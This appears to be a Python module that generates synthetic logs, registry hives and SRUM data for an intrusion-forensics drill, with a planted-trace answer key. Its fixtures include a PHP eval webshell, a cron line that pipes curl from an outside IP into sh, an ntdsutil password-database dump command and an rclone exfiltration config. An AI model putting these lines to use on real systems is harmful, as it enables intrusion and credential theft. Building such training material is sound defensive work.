"""Five made hosts over sixteen nights: four quiet ones, then twelve days with somebody inside.

Nothing here attacks anything: these are logs and settings as such hosts would have kept them.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import dataclass, field

from firstbell.base.clock import DAY_NS, NS_PER_S, format_time
from firstbell.drill.intrusion.databases import (
    BYTE,
    DATETIME,
    LONG,
    LONG_BINARY,
    LONG_LONG,
    DatabaseTable,
    write_database,
)
from firstbell.drill.intrusion.eventlogs import Event, write_log
from firstbell.drill.intrusion.hives import make_tree, write_hive

QUIET, INSIDE = 4, 12
NIGHTS = QUIET + INSIDE
_AUDIT = "Microsoft-Windows-Security-Auditing"
_SID = "S-1-5-21-1004336348-1177238915-682003330"
_LOGS = "/C/Windows/System32/winevt/Logs"
_CONFIG = "/C/Windows/System32/config"
_RUN = r"Microsoft\Windows\CurrentVersion\Run"
_OUTSIDE, _SECOND = "203.0.113.77", "198.51.100.23"
_STAFF = ("mrivera", "tchan", "jsmith", "kowalski", "nguyen")
_ADMIN_DESKS = ("10.1.0.14", "10.1.0.15")
_ORDINARY_A_DAY = 40
SENT_BYTES = 41_000_000_000


@dataclass(frozen=True)
class PlantedTrace:
    """What somebody did on a host, on which day after he came, and the sign that must tell it."""

    host: str
    sign: str
    day: int
    words: str


PLANTED = (
    PlantedTrace("ts01", "entry.remote_logon", 0, f"logged on from {_OUTSIDE} with a stolen password"),
    PlantedTrace("ts01", "stay.run", 1, "left a program that starts at every logon"),
    PlantedTrace("dc01", "account.created", 2, "made the account svc-print"),
    PlantedTrace("dc01", "account.raised", 2, "made it an administrator of the domain"),
    PlantedTrace("dc01", "account.ntds", 3, "copied the directory with everybody's passwords"),
    PlantedTrace("web01", "entry.remote_logon", 4, f"logged on from {_SECOND}"),
    PlantedTrace("web01", "entry.webshell", 4, "left a script that runs what it is sent"),
    PlantedTrace("web01", "stay.unix", 4, "let cron fetch and run a script"),
    PlantedTrace("fs02", "theft.tool", 5, "set up rclone for a storage of their own"),
    PlantedTrace("fs02", "theft.srum", 5, f"sent {SENT_BYTES / 1e9:,.0f} GB away"),
    PlantedTrace("dc01", "hide.cleared", 8, "cleared the log Security"),
    PlantedTrace("web01", "hide.vanished", 8, "took their lines out of auth.log"),
)
# of this host no backup holds anything that tells of logons or of sending
SILENT_HOST = "sis01"


@dataclass
class _Log:
    """A log that grows: the records that its file still holds, and the number of the last one."""

    channel: str
    computer: str
    events: list[Event] = field(default_factory=list)
    last: int = 0

    def add(self, time_ns: int, event_id: int, *, user_data: str = "", **data: str) -> None:
        """One more record."""
        self.last += 1
        provider = "Microsoft-Windows-Eventlog" if user_data else _AUDIT
        self.events.append(
            Event(self.last, time_ns, event_id, self.channel, provider, data, self.computer, user_data)
        )


class MadeHosts:
    """The hosts, day by day. `first_ns`: midnight before the first night."""

    def __init__(self, first_ns: int, seed: int) -> None:
        self._first_ns = first_ns
        self._rng = random.Random(f"intrusion:{seed}")
        self._logs = {host: _Log("Security", f"{host}.district.example") for host in ("dc01", "fs02", "ts01")}
        self._lines: list[tuple[int, str, bool]] = []

    def list_files(self, number: int) -> Iterator[tuple[str, dict[str, bytes]]]:
        """(host, its files) of a night; call it for one night after the other, from 0 on."""
        start_ns = self._first_ns + number * DAY_NS
        inside = number - QUIET
        self._live(start_ns)
        self._act(start_ns + 3 * 3600 * NS_PER_S, inside)
        yield "dc01", self._show_dc()
        yield "fs02", self._show_fs(number, inside)
        yield "ts01", self._show_ts(inside)
        yield "web01", self._show_web(inside)
        yield SILENT_HOST, {"/srv/sis/records.db": f"records of day {number}".encode() * 50}

    def _live(self, start_ns: int) -> None:
        """What machines and staff do on any day."""
        for host, log in self._logs.items():
            moments = sorted(self._rng.randrange(6 * 3600, 22 * 3600) for _ in range(_ORDINARY_A_DAY))
            for second in moments:
                who = self._rng.choice(_STAFF)
                address = f"10.1.{self._rng.randrange(4)}.{self._rng.randrange(2, 250)}"
                log.add(
                    start_ns + second * NS_PER_S,
                    4624,
                    TargetUserName=who,
                    LogonType="3",
                    IpAddress=address,
                    SubjectUserName="-",
                    WorkstationName=host.upper(),
                )
        for second in sorted(self._rng.randrange(6 * 3600, 22 * 3600) for _ in range(12)):
            at_ns = start_ns + second * NS_PER_S
            address = self._rng.choice(_ADMIN_DESKS)
            number = self._rng.randrange(900, 9000)
            line = f"web01 sshd[{number}]: Accepted publickey for deploy from {address} port 50122 ssh2"
            self._lines.append((at_ns, line, False))

    def _act(self, at_ns: int, inside: int) -> None:
        """What the intruder does on a day after he came."""
        dc, ts = self._logs["dc01"], self._logs["ts01"]
        if inside == 0:
            ts.add(
                at_ns,
                4624,
                TargetUserName="jsmith",
                LogonType="10",
                IpAddress=_OUTSIDE,
                SubjectUserName="TS01$",
            )
        elif inside == 2:
            named = {"SubjectUserName": "jsmith", "TargetUserName": "svc-print"}
            dc.add(at_ns, 4720, TargetSid=f"{_SID}-1604", **named)
            member = {
                "MemberName": "CN=svc-print,CN=Users,DC=district,DC=example",
                "MemberSid": f"{_SID}-1604",
            }
            group = {
                "TargetUserName": "Domain Admins",
                "TargetSid": f"{_SID}-512",
                "SubjectUserName": "jsmith",
            }
            dc.add(at_ns + NS_PER_S, 4728, **member, **group)
        elif inside == 3:
            command = r'ntdsutil "ac i ntds" "ifm" "create full c:\perflogs\n" q q'
            dc.add(
                at_ns,
                4688,
                NewProcessName=r"C:\Windows\System32\ntdsutil.exe",
                CommandLine=command,
                SubjectUserName="svc-print",
                ParentProcessName=r"C:\Windows\System32\cmd.exe",
            )
        elif inside == 4:
            line = f"web01 sshd[4711]: Accepted password for deploy from {_SECOND} port 40022 ssh2"
            self._lines.append((at_ns, line, True))
        elif inside == 8:
            dc.events.clear()
            dc.add(
                at_ns,
                1102,
                user_data="LogFileCleared",
                SubjectUserName="svc-print",
                SubjectDomainName="DISTRICT",
            )
            self._lines = [one for one in self._lines if not one[2]]

    def _show_dc(self) -> dict[str, bytes]:
        return {
            f"{_LOGS}/Security.evtx": write_log(self._logs["dc01"].events),
            "/C/Windows/NTDS/ntds.dit": b"the directory" * 300,
            f"{_CONFIG}/SOFTWARE": _write_software({}),
        }

    def _show_fs(self, number: int, inside: int) -> dict[str, bytes]:
        files = {
            f"{_LOGS}/Security.evtx": write_log(self._logs["fs02"].events),
            f"{_CONFIG}/SOFTWARE": _write_software({}),
            "/C/Windows/System32/sru/SRUDB.dat": _write_srum(self._first_ns + number * DAY_NS, inside),
        }
        if inside >= 5:
            settings = "[drop]\ntype = mega\nuser = nobody@mail.example\npass = xxxx\n"
            files["/C/Users/svc-print/AppData/Roaming/rclone/rclone.conf"] = settings.encode()
            files["/C/Users/Public/rclone.exe"] = b"MZ" + bytes(500)
        return files

    def _show_ts(self, inside: int) -> dict[str, bytes]:
        more = {"Upd": r"C:\Users\Public\upd.exe -s"} if inside >= 1 else {}
        return {
            f"{_LOGS}/Security.evtx": write_log(self._logs["ts01"].events),
            f"{_CONFIG}/SOFTWARE": _write_software(more),
        }

    def _show_web(self, inside: int) -> dict[str, bytes]:
        lines = [f"{_stamp(at_ns)} {line}" for at_ns, line, _ in self._lines]
        files = {
            "/var/log/auth.log": ("\n".join(lines) + "\n").encode(),
            "/etc/passwd": b"root:x:0:0::/root:/bin/bash\ndeploy:x:1000:1000::/home/deploy:/bin/bash\n",
            "/etc/crontab": b"17 * * * * root run-parts /etc/cron.hourly\n",
            "/var/www/html/index.php": b"<?php echo 'Welcome to Lakeside Schools'; ?>",
        }
        if inside >= 4:
            files["/var/www/html/status.php"] = b"<?php eval($_POST['x']); ?>"
            files["/etc/cron.d/upd"] = f"*/10 * * * * root curl -s http://{_SECOND}/u | sh\n".encode()
        return files


def _stamp(at_ns: int) -> str:
    return format_time(at_ns)[:19] + "+00:00"


def _write_software(more: dict[str, str]) -> bytes:
    values = {"SecurityHealth": r"C:\Windows\system32\SecurityHealthSystray.exe", **more}
    return write_hive(make_tree({_RUN: values}))


_PROGRAMS = {
    7: (r"\device\harddiskvolume3\windows\system32\svchost.exe", 9_000_000),
    8: (r"\device\harddiskvolume3\program files\restic\restic.exe", 80_000_000),
}
_RCLONE = 9
_NETWORK = {
    "AutoIncId": LONG,
    "TimeStamp": DATETIME,
    "AppId": LONG,
    "UserId": LONG,
    "InterfaceLuid": LONG_LONG,
    "L2ProfileId": LONG,
    "L2ProfileFlags": LONG,
    "BytesSent": LONG_LONG,
    "BytesRecvd": LONG_LONG,
}


def _write_srum(midnight_ns: int, inside: int) -> bytes:
    """What SRUM counted in the thirty days up to this one, four times a day."""
    rows: list[dict[str, int | float | bytes | None]] = []
    for back in range(30, -1, -1):
        day_ns = midnight_ns - back * DAY_NS
        for hour in (2, 8, 14, 20):
            for app, (_, sent) in _PROGRAMS.items():
                rows.append(_count(rows, day_ns, hour, app=app, sent=sent + hour * 1000))
        if inside - back == 5:
            rows.append(_count(rows, day_ns, 3, app=_RCLONE, sent=SENT_BYTES))
    names = {app: name for app, (name, _) in _PROGRAMS.items()}
    names[_RCLONE] = r"\device\harddiskvolume3\users\public\rclone.exe"
    ids: list[dict[str, int | float | bytes | None]] = [
        {"IdType": 0, "IdIndex": app, "IdBlob": (name + "\0").encode("utf-16-le")}
        for app, name in names.items()
    ]
    ids.append({"IdType": 3, "IdIndex": 1, "IdBlob": bytes.fromhex("010100000000000512000000")})
    return write_database(
        [
            DatabaseTable("{973F5D5C-1D90-4944-BE8E-24B94231A174}", _NETWORK, rows),
            DatabaseTable("SruDbIdMapTable", {"IdType": BYTE, "IdIndex": LONG, "IdBlob": LONG_BINARY}, ids),
        ]
    )


def _count(
    rows: list[dict[str, int | float | bytes | None]], day_ns: int, hour: int, *, app: int, sent: int
) -> dict[str, int | float | bytes | None]:
    days = (day_ns + hour * 3600 * NS_PER_S) / DAY_NS + 25_569
    fixed = {"InterfaceLuid": 1 << 48, "L2ProfileId": 0, "L2ProfileFlags": 0}
    told = {"AppId": app, "UserId": 1, "BytesSent": sent, "BytesRecvd": sent // 9}
    return {"AutoIncId": len(rows) + 1, "TimeStamp": days, **fixed, **told}
